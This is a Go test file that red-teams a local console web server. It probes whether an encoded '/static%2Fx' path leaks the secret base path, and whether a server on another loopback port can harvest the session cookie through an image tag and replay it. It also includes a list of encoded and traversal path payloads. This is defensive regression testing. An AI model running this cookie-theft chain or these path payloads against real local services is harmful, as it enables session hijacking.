package console

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
)

// basePattern finds a console's random base path in a page.
var basePattern = regexp.MustCompile(`/s/[A-Za-z0-9_-]{22}`)

// learnBase is what any local process that can make HTTP requests would
// do to learn a console's secret base path, with no cookie and no token:
// ask for a path whose first segment is "static%2F…". A guard that let
// through the decoded path ("/static/…") as a public asset handed it to
// the ServeMux, which matches the escaped path segment by segment, found
// no "/static/" route for the segment "static/x" and answered with its
// catch-all, the error page in the full layout, whose links carry the
// base.
func learnBase(t *testing.T, origin string) (string, string) {
	t.Helper()
	resp, err := http.Get(origin + "/static%2Fx")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return basePattern.FindString(string(b)), string(b)
}

// TestAttackRedteamCookieStaticEscapeLeaksBase: a request with no cookie
// and no token for "/static%2Fx" must not get the console's layout, whose
// links name the random base path, the only thing that keeps the token's
// cookie from other servers on the loopback host (nor the principal, role
// and room id it shows).
//
// The measure: whether the unauthenticated answer contains the base.
func TestAttackRedteamCookieStaticEscapeLeaksBase(t *testing.T) {
	_, cu := brandConsole(t)
	got, body := learnBase(t, cu.origin)
	t.Logf("base learnt without a cookie: %q (the console's is %q)", got, cu.srv.base)
	if got == cu.srv.base {
		t.Errorf("GET /static%%2Fx, with no cookie, answers the console's layout with its secret base path %s", got)
	}
	if strings.Contains(body, brandA) {
		t.Errorf("the unauthenticated page also names the principal %q", brandA)
	}
}

// TestAttackRedteamCookieNeighbourStealsToken: the whole chain against a
// user's Chromium, were the base to leak. A server on another port of
// 127.0.0.1 learns the base with one request to the console (learnBase),
// then serves the user a page
// with an image at that path on its own origin. Cookies ignore ports, the
// cookie's path matches, and the request is same-site, so SameSite=Strict
// does not hold it back: the browser sends the console's cookie, the token,
// to the neighbour, which replays it from a plain HTTP client (no Origin,
// no Sec-Fetch-Site: CrossOriginProtection lets it through) and runs a
// query with the user's key.
//
// The measures: whether the neighbour received the token, and whether the
// room answered a query the user never asked for.
func TestAttackRedteamCookieNeighbourStealsToken(t *testing.T) {
	bctx := tab(t)
	f, cu := brandConsole(t)
	port := cu.origin[strings.LastIndex(cu.origin, ":")+1:]
	cookieName := "cleanroom_console_" + port

	// The user logs in, as the console told them to.
	must(t, bctx, "opening the printed URL", chromedp.Navigate(cu.url), chromedp.WaitVisible(chromedp.CSS("table")))

	// The neighbour learns the base, knowing only the console's port (a
	// scan of loopback ports for "cleanroom console:" finds it).
	base, _ := learnBase(t, cu.origin)
	if base == "" {
		t.Log("the neighbour could not learn the base path: the chain stops at its first step")
		return
	}
	var mu sync.Mutex
	var stolen string
	nb := newNeighbourFunc(t, func(w http.ResponseWriter, r *http.Request) {
		if c, err := r.Cookie(cookieName); err == nil {
			mu.Lock()
			stolen = c.Value
			mu.Unlock()
		}
		if strings.HasPrefix(r.URL.Path, "/s/") {
			w.WriteHeader(http.StatusNoContent)
			return
		}
		fmt.Fprintf(w, `<!doctype html><title>a local page</title><p>hello</p><img src="%s/pixel.png" alt="">`, base)
	})
	must(t, bctx, "visiting the neighbour's page", chromedp.Navigate(nb+"/"), chromedp.WaitVisible(chromedp.CSS("p")))
	deadline := time.Now().Add(5 * time.Second)
	for {
		mu.Lock()
		s := stolen
		mu.Unlock()
		if s != "" || time.Now().After(deadline) {
			break
		}
		time.Sleep(50 * time.Millisecond)
	}
	mu.Lock()
	token := stolen
	mu.Unlock()
	t.Logf("cookie %s the neighbour received: %t (it is the token: %t)", cookieName, token != "", token == cu.srv.token)
	if token == "" {
		return
	}
	if token == cu.srv.token {
		t.Errorf("the neighbour at %s received the console's token in its cookie", nb)
	}

	// The neighbour replays it and runs a query with the user's key.
	before, err := f.clients[brandA].Budget(context.Background(), collab)
	if err != nil {
		t.Fatal(err)
	}
	req, _ := http.NewRequest("POST", cu.origin+base+"/c/"+collab+"/query",
		strings.NewReader(url.Values{"count": {"on"}, "epsilon": {"0.5"}, "do": {"run"}}.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	req.AddCookie(&http.Cookie{Name: cookieName, Value: token})
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	after, err := f.clients[brandA].Budget(context.Background(), collab)
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("the neighbour's replayed POST: %d; queries today %d -> %d, spent %v -> %v", resp.StatusCode, before.QueriesToday, after.QueriesToday, before.Spent, after.Spent)
	if after.QueriesToday > before.QueriesToday {
		t.Errorf("with the stolen token the neighbour ran a query as %s: the room answered it (%d queries today, was %d)", brandA, after.QueriesToday, before.QueriesToday)
	}
}

// newNeighbourFunc serves h on another port of 127.0.0.1 and returns its
// origin.
func newNeighbourFunc(t *testing.T, h http.HandlerFunc) string {
	t.Helper()
	srv := httptest.NewServer(h)
	t.Cleanup(srv.Close)
	return srv.URL
}

// TestAttackRedteamCookieNoAnswerNamesBase: requests without the cookie,
// by every method and in every form of path that could reach a page, an
// error page or a redirect of the console's (encoded slashes and dots,
// other cases, near misses of the base, the pages' paths outside it),
// sent as written. No answer, body or header, may name the base path, the
// principal or the room: an answer that names the base gives the cookie to
// whoever asked (TestAttackRedteamCookieNeighbourStealsToken).
//
// The measure: answers that name one of them, of all sent; none allowed.
func TestAttackRedteamCookieNoAnswerNamesBase(t *testing.T) {
	_, cu := brandConsole(t)
	base := cu.srv.base
	secret := strings.TrimPrefix(base, "/s/")
	near := secret[:len(secret)-1] + string(secret[len(secret)-1]^1)
	paths := []string{
		"/", "//", "/s", "/s/", "/S/" + secret + "/", "/s/" + near + "/", base[:len(base)-1], base + "x", base + "%2F",
		"/s%2F" + secret + "/", "/%73/" + secret + "/",
		"/collaborations", "/c/" + collab, "/c/" + collab + "/query", "/audit", "/results/0123456789abcdef01234567.csv",
		"/static", "/static/", "/static/.", "/static/..", "/static//x", "/static%2Fx", "/static%2fx", "/%73tatic/x",
		"/STATIC/x", "/static/%2e%2e/", "/static/..%2f", "/static/../s/", "/static/..%2fs%2f" + secret,
		"/static/console.css/", "/static/console.css/..", "/static/nothing", "/favicon.ico",
		"/?token=" + newToken(), "/s/" + near + "/?token=" + newToken(),
	}
	methods := []string{"GET", "HEAD", "POST", "PUT", "OPTIONS"}
	words := map[string]string{"the base": secret, "the principal": brandA, "the room": cu.srv.cfg.Client.Room().ID}
	anon := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	leaks, sent := 0, 0
	for _, p := range paths {
		for _, m := range methods {
			resp, body := sendAsWritten(t, anon, m, cu.origin, p)
			sent++
			var all strings.Builder
			all.Write(body)
			for k, vs := range resp.Header {
				fmt.Fprintf(&all, "\n%s: %s", k, strings.Join(vs, ", "))
			}
			for what, w := range words {
				if strings.Contains(all.String(), w) {
					leaks++
					t.Errorf("%s %s without the cookie: %d, and the answer names %s", m, p, resp.StatusCode, what)
				}
			}
		}
	}
	t.Logf("answers without the cookie that name the base, the principal or the room: %d of %d", leaks, sent)
}
